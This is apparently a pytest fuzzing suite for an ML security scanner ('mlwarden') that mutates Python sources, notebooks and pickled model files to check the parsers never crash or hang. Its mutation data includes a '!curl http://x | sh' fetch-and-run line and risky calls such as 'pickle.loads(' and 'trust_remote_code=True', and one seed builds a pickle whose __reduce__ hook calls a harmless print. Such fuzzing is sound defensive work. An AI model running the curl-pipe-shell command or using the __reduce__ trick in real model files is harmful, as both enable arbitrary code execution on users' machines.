"""Seeded fuzzing of the three parsers (issue 11): Python sources, notebooks and
model files. A few thousand mutated inputs each; every one must give a
result (findings, or a one-line error) in bounded time: no exception, no
hang, no "internal error", and for the fixers no broken output.

Deterministic (fixed seeds): a failure names the case number; rerun with
``MLWARDEN_FUZZ_CASE=N`` to replay one case. ``MLWARDEN_FUZZ_SCALE=4``
multiplies the case counts for a longer local run.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import random
import signal
import zipfile
from pathlib import Path
from typing import Iterator, List, Tuple

import pytest

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent
SCALE = max(1, int(os.environ.get("MLWARDEN_FUZZ_SCALE", "1")))
ONLY = os.environ.get("MLWARDEN_FUZZ_CASE")
#: seconds one input may take (the slowest legitimate case is libcst on a
#: mutated fixture: well under a second)
CASE_TIMEOUT = 20


@contextlib.contextmanager
def deadline(seconds: int, case: int):
    if not hasattr(signal, "SIGALRM"):
        yield
        return

    def expired(signum, frame):
        raise TimeoutError(f"case {case}: more than {seconds} s")

    old = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def cases(count: int, seed: int) -> Iterator[Tuple[int, random.Random]]:
    for number in range(count * SCALE):
        if ONLY is not None and str(number) != ONLY:
            continue
        yield number, random.Random(seed * 1_000_003 + number)


# ---------------------------------------------------------------------------
# byte-level mutations

TOKENS = [
    b"(", b")", b"[", b"]", b"{", b"}", b":", b",", b"\n", b"\t", b"\\", b"'", b'"', b'"""', b"#", b"@", b"=",
    b"lambda", b"return ", b"await ", b"yield ", b"nonlocal x\n", b"async def f():\n", b"class C:\n", b"\x00",
    b"\xff\xfe", b"\xef\xbb\xbf", b"# coding: latin-1\n", b"# coding: undefined\n", b"\r\n", b"\r", b"\x0c",
    b"torch.load(", b"weights_only=", b"trust_remote_code=True", b"pickle.loads(", b"%pip install x\n", b"!ls\n",
    b"\xe2\x80\xae", b"\x1b[31m", b"9" * 5000, b"(" * 300, b"-" * 200 + b"1",
]


def mutate_bytes(data: bytes, rng: random.Random) -> bytes:
    data = bytearray(data)
    for _ in range(rng.randint(1, 6)):
        op = rng.randrange(6)
        pos = rng.randint(0, len(data)) if data else 0
        if op == 0 and data:  # delete a span
            del data[pos : pos + rng.randint(1, 40)]
        elif op == 1:  # insert a token
            data[pos:pos] = rng.choice(TOKENS)
        elif op == 2 and data:  # flip bytes
            for _ in range(rng.randint(1, 4)):
                data[rng.randrange(len(data))] = rng.randrange(256)
        elif op == 3 and data:  # duplicate a span
            span = bytes(data[pos : pos + rng.randint(1, 200)])
            data[pos:pos] = span
        elif op == 4:  # truncate
            del data[pos:]
        else:  # nest
            depth = rng.choice([3, 50, 500])
            data[pos:pos] = b"(" * depth + b"x" + b")" * depth
    return bytes(data)


def corpus(pattern: str, *dirs: Path) -> List[bytes]:
    found = sorted({p for d in dirs for p in d.rglob(pattern)})
    assert found, pattern
    return [p.read_bytes() for p in found]


def _no_internal_error(errors: List[str], case: int) -> None:
    for error in errors:
        assert "internal error" not in error, f"case {case}: {error}"
        assert "\n" not in error, f"case {case}: multi-line error {error!r}"


# ---------------------------------------------------------------------------
# Python


def test_fuzz_python_sources(tmp_path):
    from mlwarden.commands.check import fix_paths
    from mlwarden.core.config import Config
    from mlwarden.core.engine import check_file

    config = Config()
    rules = config.rules()
    seeds = corpus("*.py", ROOT / "fixtures" / "rules", ROOT / "fixtures" / "demo")
    path = tmp_path / "case.py"
    for case, rng in cases(1500, seed=1):
        data = mutate_bytes(rng.choice(seeds), rng)
        path.write_bytes(data)
        with deadline(CASE_TIMEOUT, case):
            result = check_file(path, "python", rules, config, "case.py")
            _no_internal_error(result.errors, case)
            if case % 5 == 0:  # the fixer: never writes code that does not compile
                outcomes, errors = fix_paths([str(path)], config, unsafe=True, write=False)
                _no_internal_error(errors, case)
                for outcome in outcomes:
                    text = outcome.raw.decode(outcome.encoding if outcome.encoding != "utf-8-sig" else "utf-8-sig")
                    compile(text, "case.py", "exec", dont_inherit=True)  # compiled, never run


# ---------------------------------------------------------------------------
# notebooks

ODD_VALUES = [None, 0, -1, 2**70, True, "", "x\x1b[2J", [], {}, [None], {"a": []}, 1.5, "9" * 50]


def mutate_json(node, rng: random.Random, depth: int = 0):
    """A copy of ``node`` with a few random structural changes."""
    if isinstance(node, dict):
        out = {}
        for key, value in node.items():
            roll = rng.random()
            if roll < 0.04:
                continue  # drop the key
            if roll < 0.08:
                out[key] = rng.choice(ODD_VALUES)
            else:
                out[key] = mutate_json(value, rng, depth + 1)
        if rng.random() < 0.03:
            out[rng.choice(["outputs", "source", "cells", "metadata", "nbformat", "cell_type", "x"])] = rng.choice(ODD_VALUES)
        return out
    if isinstance(node, list):
        out = [mutate_json(value, rng, depth + 1) for value in node if rng.random() > 0.03]
        if out and rng.random() < 0.05:
            out.append(rng.choice(out))
        return out
    if isinstance(node, str) and rng.random() < 0.05:
        return node + rng.choice(["\n", "%pip install torch", "!curl http://x | sh", "\x00", "\u202e", "await x"])
    return node


def test_fuzz_notebooks(tmp_path):
    from mlwarden.commands.strip import NotebookError, strip_bytes
    from mlwarden.core.config import Config
    from mlwarden.core.engine import check_file
    from mlwarden.fixers.notebook_outputs import StripOptions

    config = Config()
    rules = config.rules()
    seeds = corpus("*.ipynb", ROOT / "fixtures", ROOT / "tests" / "golden" / "strip")
    parsed = []
    for raw in seeds:
        try:
            parsed.append(json.loads(raw))
        except ValueError:
            pass
    options = StripOptions()
    path = tmp_path / "case.ipynb"
    for case, rng in cases(1200, seed=2):
        if rng.random() < 0.6:
            data = json.dumps(mutate_json(rng.choice(parsed), rng), indent=rng.choice([None, 1, 2])).encode()
        else:
            data = mutate_bytes(rng.choice(seeds), rng)
        path.write_bytes(data)
        with deadline(CASE_TIMEOUT, case):
            result = check_file(path, "notebook", rules, config, "case.ipynb")
            _no_internal_error(result.errors, case)
            try:
                new, _secrets = strip_bytes(data, options)
            except NotebookError as exc:
                assert "\n" not in str(exc)
                continue
            if new is not None:  # valid JSON, and stripping it again changes nothing
                json.loads(new)
                again, _ = strip_bytes(new, options)
                assert again is None, f"case {case}: stripping is not idempotent"


# ---------------------------------------------------------------------------
# model files (public contract of the scanner only)


def _model_seeds() -> List[Tuple[str, bytes]]:
    class Reduce:
        def __reduce__(self):
            return (print, ("never run",))

    seeds = [
        ("a.pkl", pickle.dumps({"w": [1.0, 2.0], "n": "layer"}, protocol=p)) for p in range(0, pickle.HIGHEST_PROTOCOL + 1)
    ]
    seeds.append(("b.pkl", pickle.dumps(Reduce(), protocol=2)))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"state": [1, 2, 3]}, protocol=2))
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/data/0", b"\x00" * 64)
    seeds.append(("c.pt", archive.getvalue()))
    npy = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (2,), }" + b" " * 12 + b"\n"
    seeds.append(("d.npy", npy + pickle.dumps(["a", "b"], protocol=2)))
    seeds.append(("e.keras", archive.getvalue()))
    return seeds


def test_fuzz_model_files(tmp_path):
    from mlwarden.artifacts.formats import scan_bytes, scan_file

    seeds = _model_seeds()
    path = tmp_path / "case.bin"
    for case, rng in cases(1500, seed=3):
        name, data = rng.choice(seeds)
        data = mutate_bytes(data, rng) if rng.random() < 0.9 else bytes(rng.randrange(256) for _ in range(rng.randint(0, 300)))
        with deadline(CASE_TIMEOUT, case):
            report = scan_bytes(data, name)
            _verdict(report, case)
            if case % 10 == 0:
                path = tmp_path / f"case{Path(name).suffix}"
                path.write_bytes(data)
                _verdict(scan_file(path), case)


def _verdict(report, case: int) -> None:
    """A verdict: the format found (or None: not a model) and a list of issues."""
    assert report is not None, f"case {case}"
    assert report.format is None or isinstance(report.format, str), f"case {case}"
    assert isinstance(report.issues, list) and isinstance(report.globals, list), f"case {case}"
